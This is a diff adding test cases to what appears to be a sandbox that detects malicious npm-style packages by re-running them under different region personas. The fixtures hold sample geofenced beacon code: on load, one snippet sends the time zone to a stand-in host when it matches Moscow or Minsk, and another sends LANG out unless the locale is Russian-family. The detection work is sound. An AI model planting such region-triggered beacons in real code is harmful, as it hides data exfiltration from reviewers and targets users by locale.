@@ -532,6 +532,36 @@ describe('WebAssembly', () => {
   });
 });
 
+describe('regions', () => {
+  const sends = (r: ReturnType<typeof run>) => r.effects.filter((e) => e.kind === 'send' || e.kind === 'fetch').map((e) => String(e.url ?? e.host));
+
+  it('a library that reads the time zone runs again on the other region, where its geofence opens', () => {
+    const src = `
+      const zones = ['Europe/Moscow', 'Europe/Minsk'];
+      function fmt(d) {
+        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
+        if (zones.indexOf(tz) >= 0 || new Date().getTimezoneOffset() === -180) require('https').get('https://geo.invalid/' + tz);
+        return String(d);
+      }
+      module.exports = { fmt };`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    expect(r.runs.map((x) => x.region ?? 'home')).toEqual(['home', 'ru-RU Europe/Moscow']);
+    expect(sends(r)).toContain('https://geo.invalid/Europe/Moscow');
+    expect(r.effects.find((e) => String(e.url).includes('geo.invalid'))?.evidence).toContain('(linux persona, ru-RU Europe/Moscow)');
+  });
+
+  it('code that stays quiet where LANG is Russian still acts on the home region', () => {
+    const src = `if (!/^(ru|be|kk)/.test(process.env.LANG || '')) require('https').get('https://quiet.invalid/' + process.env.LANG);`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    expect(sends(r)).toEqual(['https://quiet.invalid/en_US.UTF-8']);
+  });
+
+  it('code that never reads the region runs once', () => {
+    const r = run({ 'index.js': `module.exports = (a, b) => a + b;` }, [{ file: 'index.js', reach: 'load' }]);
+    expect(r.runs.map((x) => x.region ?? 'home')).toEqual(['home']);
+  });
+});
+
 describe('shouldEmulate', () => {
   it('keeps emulation for files with a reason', () => {
     expect(shouldEmulate('scripts/postinstall.js', 'console.log(1)', 'install')).toBe(true);
